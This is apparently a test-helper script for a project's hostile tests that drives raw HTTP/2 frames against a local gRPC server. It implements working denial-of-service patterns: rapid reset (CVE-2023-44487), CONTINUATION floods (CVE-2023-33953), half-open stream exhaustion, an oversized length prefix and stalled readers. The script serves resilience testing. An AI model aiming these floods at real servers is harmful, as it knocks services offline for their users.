#!/usr/bin/python3
"""Raw HTTP/2 abuse of hookfan's gRPC port (issue #23), for the hostile tests.

Each subcommand speaks HTTP/2 frames directly (python3-h2's hpack only
encodes header blocks: the h2 state machine would refuse to misbehave) and
prints one JSON object with what it sent and what the server answered.
Frames the server sends are read throughout, so its writes never block on us.

  rapid-reset --port P --seconds S [--reconnect]
      HEADERS + request + RST_STREAM(CANCEL) on one connection, as fast as it
      goes (the pattern of CVE-2023-44487); with --reconnect, a new
      connection whenever the server closes one, until S seconds are over.
  half-open --port P --connections C --streams N
      C connections, each opening N streams with HEADERS only; after a PING
      round trip (the server has handled every frame before it), prints the
      result and holds the connections open until stdin closes.
  continuation --port P --connections C --bytes B --frame F [--tls]
      C connections, each sending one header value of B bytes in F-byte
      CONTINUATION frames (the pattern of CVE-2023-33953); with --tls, over
      TLS without a client certificate (the server is not verified).
  huge-prefix --port P --declared D --wait-seconds W
      A Publish whose length prefix declares D bytes; waits up to W s for an
      answer, then ends the stream (END_STREAM) and waits for the answer.
  stalled-subscribers --port P --connections C --streams N --ready-file F
      C connections of N Subscribe streams from earliest, granting the
      server the largest flow-control windows HTTP/2 allows, then never
      reading the sockets, so what the server sends piles up in the server.
      Writes F once every request is sent and blocks on stdin; at EOF it
      resets every connection (as a crashed client) and exits.
"""

import argparse
import json
import socket
import ssl
import struct
import sys
import threading
import time
import urllib.parse

import h2.config
import h2.connection
import h2.settings
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
SETTING_NAMES = {1: "header_table_size", 3: "max_concurrent_streams",
                 4: "initial_window_size", 5: "max_frame_size", 6: "max_header_list_size"}
CANCEL = 0x8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(path, extra=()):
    # Never-indexed literals: the block leaves the server's HPACK table as it
    # was, so one encoding serves every stream.
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
               (":authority", "localhost"), ("content-type", "application/grpc"),
               ("te", "trailers")] + list(extra)
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers],
                                  huffman=False)


def grpc_message(payload, declared=None):
    return struct.pack(">BI", 0, len(payload) if declared is None else declared) + payload


class Connection:
    """One HTTP/2 connection with a thread reading the server's frames."""

    def __init__(self, port, tls=False):
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            self.sock = context.wrap_socket(self.sock)
        # A server that stops reading must not stall the tool: a send that
        # blocks this long gives the connection up.
        self.sock.settimeout(3.0)
        self.stopping = False
        self.lock = threading.Condition()
        self.settings = {}
        self.goaway = None
        self.rst = {}          # error code -> count
        self.trailers = {}     # stream -> {name: value}
        self.window = 65535    # our send window on the connection
        self.pings = 0
        self.closed = False
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 1 << 16
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _recv(self, n):
        buf = b""
        while len(buf) < n:
            try:
                chunk = self.sock.recv(n - len(buf))
            except socket.timeout:
                if self.stopping:
                    raise EOFError
                continue
            if not chunk:
                raise EOFError
            buf += chunk
        return buf

    def _read(self):
        pending = {}  # stream -> header block fragments
        try:
            while True:
                head = self._recv(9)
                length = struct.unpack(">I", b"\0" + head[:3])[0]
                kind, flags, stream = head[3], head[4], struct.unpack(">I", head[5:])[0] & 0x7FFFFFFF
                payload = self._recv(length)
                with self.lock:
                    if kind == SETTINGS and not flags & ACK:
                        for i in range(0, len(payload), 6):
                            key, value = struct.unpack(">HI", payload[i:i + 6])
                            self.settings[SETTING_NAMES.get(key, str(key))] = value
                        self.sock.sendall(frame(SETTINGS, ACK, 0))
                    elif kind == PING and flags & ACK:
                        self.pings += 1
                    elif kind == PING:
                        self.sock.sendall(frame(PING, ACK, 0, payload))
                    elif kind == GOAWAY:
                        last, code = struct.unpack(">II", payload[:8])
                        self.goaway = {"last_stream": last, "error": code,
                                       "debug": payload[8:].decode("latin-1")}
                    elif kind == RST_STREAM:
                        code = struct.unpack(">I", payload)[0]
                        self.rst[code] = self.rst.get(code, 0) + 1
                    elif kind == WINDOW_UPDATE and stream == 0:
                        self.window += struct.unpack(">I", payload)[0] & 0x7FFFFFFF
                    elif kind in (HEADERS, CONTINUATION):
                        pending[stream] = pending.get(stream, b"") + payload
                        if flags & END_HEADERS:
                            block = pending.pop(stream)
                            if kind == HEADERS and flags & 0x20:  # PRIORITY
                                block = block[5:]
                            fields = dict(self.decoder.decode(block, raw=False))
                            if "grpc-status" in fields:
                                self.trailers[stream] = fields
                    self.lock.notify_all()
        except (EOFError, OSError):
            pass
        with self.lock:
            self.closed = True
            self.lock.notify_all()

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            return False

    def take_window(self, n, timeout=5.0):
        """Waits until the server's connection window allows n more DATA bytes."""
        with self.lock:
            ok = self.lock.wait_for(lambda: self.window >= n or self.closed, timeout)
            if ok and not self.closed:
                self.window -= n
                return True
            return False

    def round_trip(self, timeout):
        """Sends a PING and waits for its ACK: the server has read every
        frame sent before it. False if it did not come back in time."""
        with self.lock:
            want = self.pings + 1
        if not self.send(frame(PING, 0, 0, b"roundtrp")):
            return False
        with self.lock:
            return self.lock.wait_for(lambda: self.pings >= want or self.closed, timeout) \
                and self.pings >= want

    def wait(self, predicate, timeout):
        with self.lock:
            return self.lock.wait_for(lambda: predicate() or self.closed, timeout) and predicate()

    def close(self):
        self.stopping = True
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self.reader.join(5)

    def report(self):
        with self.lock:
            return {"settings": dict(self.settings), "goaway": self.goaway,
                    "rst": {str(k): v for k, v in self.rst.items()}, "closed": self.closed}


def rapid_reset(args):
    block = header_block("/hookfan.v1.EventBroker/Subscribe")
    request = grpc_message(b"")  # SubscribeRequest{}: from latest
    batch = 64
    sent, connections, goaways = 0, 0, 0
    start = time.monotonic()
    # With --reconnect, a connection the server closes is replaced by a new
    # one until the time is up, as a determined client would.
    while time.monotonic() - start < args.seconds:
        conn = Connection(args.port)
        connections += 1
        stream = 1
        while time.monotonic() - start < args.seconds and not conn.closed:
            if not conn.take_window(batch * len(request)):
                break
            chunk = bytearray()
            for _ in range(batch):
                chunk += frame(HEADERS, END_HEADERS, stream, block)
                chunk += frame(DATA, END_STREAM, stream, request)
                chunk += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                stream += 2
            if not conn.send(bytes(chunk)):
                break
            sent += batch
        conn.close()
        goaways += conn.goaway is not None
        if not args.reconnect:
            break
    print(json.dumps({"streams": sent, "seconds": round(time.monotonic() - start, 2),
                      "connections": connections, "goaways": goaways}), flush=True)


def half_open(args):
    block = header_block("/hookfan.v1.EventBroker/Publish")
    conns = [Connection(args.port) for _ in range(args.connections)]
    # As a conforming client: the streams follow the ACK of the server's
    # SETTINGS (the reader sends it on receipt). gRPC 1.51 holds a client to
    # the advertised stream cap only from that ACK on.
    for conn in conns:
        conn.wait(lambda c=conn: bool(c.settings), 10)
    for conn in conns:
        conn.send(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block)
                           for i in range(args.streams)))
    answered = all([conn.round_trip(30) for conn in conns])
    # gRPC may answer the PING before it resets the streams past the cap or
    # closes the connection: wait (bounded) for that outcome, if it comes.
    deadline = time.monotonic() + 10
    for conn in conns:
        conn.wait(lambda c=conn: sum(c.rst.values()) >= args.streams - args.cap,
                  max(0, deadline - time.monotonic()))
    reports = [conn.report() for conn in conns]
    refused = sum(sum(r["rst"].values()) for r in reports)
    print(json.dumps({"connections": len(conns), "streams": args.connections * args.streams,
                      "answered": answered, "refused": refused,
                      "settings": reports[0]["settings"],
                      "closed": sum(1 for r in reports if r["closed"]),
                      "per_connection": [{"refused": sum(r["rst"].values()),
                                          "closed": r["closed"], "goaway": r["goaway"]}
                                         for r in reports]}), flush=True)
    sys.stdin.read()  # hold the streams open until the caller is done measuring
    for conn in conns:
        conn.close()


def continuation(args):
    value = "a" * args.bytes
    results = []
    threads = []

    def one():
        try:
            conn = Connection(args.port, tls=args.tls)
        except OSError as e:  # ssl.SSLError included: refused in the handshake
            results.append({"connected": False, "error": str(e)})
            return
        block = header_block("/hookfan.v1.EventBroker/Publish", [("x-big", value)])
        start = time.monotonic()
        first, rest = block[:args.frame], block[args.frame:]
        ok = conn.send(frame(HEADERS, 0, 1, first))
        frames = 1
        while rest and ok:
            piece, rest = rest[:args.frame], rest[args.frame:]
            ok = conn.send(frame(CONTINUATION, 0 if rest else END_HEADERS, 1, piece))
            frames += 1
        # The server has parsed the whole block (or closed) once a PING comes back.
        answered = conn.round_trip(60)
        seconds = time.monotonic() - start
        r = conn.report()
        r.update({"connected": True, "frames": frames, "sent_all": ok, "answered": answered,
                  "seconds": round(seconds, 2), "trailers": list(conn.trailers.values())})
        conn.close()
        results.append(r)

    for _ in range(args.connections):
        t = threading.Thread(target=one)
        t.start()
        threads.append(t)
    for t in threads:
        t.join()
    print(json.dumps({"connections": results}), flush=True)


def huge_prefix(args):
    conn = Connection(args.port)
    conn.send(frame(HEADERS, END_HEADERS, 1, header_block("/hookfan.v1.EventBroker/Publish")))
    conn.send(frame(DATA, 0, 1, grpc_message(b"\x0a\x01x", declared=args.declared)[:8]))
    start = time.monotonic()
    answered = conn.wait(lambda: 1 in conn.trailers, args.wait_seconds)
    out = {"answered_before_end": answered,
           "seconds_before_end": round(time.monotonic() - start, 2)}
    if not answered:
        conn.send(frame(DATA, END_STREAM, 1))
        start = time.monotonic()
        conn.wait(lambda: 1 in conn.trailers, 10)
        out["seconds_after_end"] = round(time.monotonic() - start, 2)
    trailers = conn.trailers.get(1, {})
    out.update({"grpc_status": trailers.get("grpc-status"),
                # gRPC percent-encodes the message (PROTOCOL-HTTP2.md)
                "grpc_message": urllib.parse.unquote(trailers.get("grpc-message") or "")
                or None})
    out.update(conn.report())
    conn.close()
    print(json.dumps(out), flush=True)

MAX_WINDOW = 2**31 - 1
# SubscribeRequest{start: StartPosition{earliest: true}}: field 2 holding
# field 2 (varint) = 1.
SUBSCRIBE_EARLIEST = bytes([0x12, 0x02, 0x10, 0x01])


def stalled_connection(port, streams):
    # python3-h2's state machine: these clients misbehave only by not reading.
    sock = socket.create_connection(("127.0.0.1", port))
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    conn.update_settings({
        h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: MAX_WINDOW,
        h2.settings.SettingCodes.MAX_FRAME_SIZE: 2**24 - 1,
    })
    conn.increment_flow_control_window(MAX_WINDOW - 65535)
    headers = [(":method", "POST"), (":scheme", "http"), (":authority", "127.0.0.1:%d" % port),
               (":path", "/hookfan.v1.EventBroker/Subscribe"),
               ("content-type", "application/grpc"), ("te", "trailers")]
    for _ in range(streams):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, headers)
        conn.send_data(stream_id, grpc_message(SUBSCRIBE_EARLIEST), end_stream=True)
    sock.sendall(conn.data_to_send())
    return sock


def stalled_subscribers(args):
    socks = [stalled_connection(args.port, args.streams) for _ in range(args.connections)]
    with open(args.ready_file, "w") as f:
        f.write("%d\n" % (args.connections * args.streams))
    sys.stdin.read()  # never reads the sockets: the whole point
    for sock in socks:
        # RST on close, as a client that crashed: nothing is drained.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="command", required=True)
    p = sub.add_parser("rapid-reset")
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--reconnect", action="store_true")
    p.set_defaults(run=rapid_reset)
    p = sub.add_parser("half-open")
    p.add_argument("--connections", type=int, default=20)
    p.add_argument("--streams", type=int, default=1000)
    p.add_argument("--cap", type=int, default=100, help="the stream cap the server advertises")
    p.set_defaults(run=half_open)
    p = sub.add_parser("continuation")
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--bytes", type=int, default=4 << 20)
    p.add_argument("--frame", type=int, default=16384)
    p.add_argument("--tls", action="store_true")
    p.set_defaults(run=continuation)
    p = sub.add_parser("huge-prefix")
    p.add_argument("--declared", type=int, default=100 << 20)
    p.add_argument("--wait-seconds", type=float, default=3)
    p.set_defaults(run=huge_prefix)
    p = sub.add_parser("stalled-subscribers")
    p.add_argument("--connections", type=int, default=10)
    p.add_argument("--streams", type=int, default=100)
    p.add_argument("--ready-file", required=True)
    p.set_defaults(run=stalled_subscribers)
    for p in sub.choices.values():
        p.add_argument("--port", type=int, required=True)
    args = parser.parse_args()
    args.run(args)


if __name__ == "__main__":
    main()
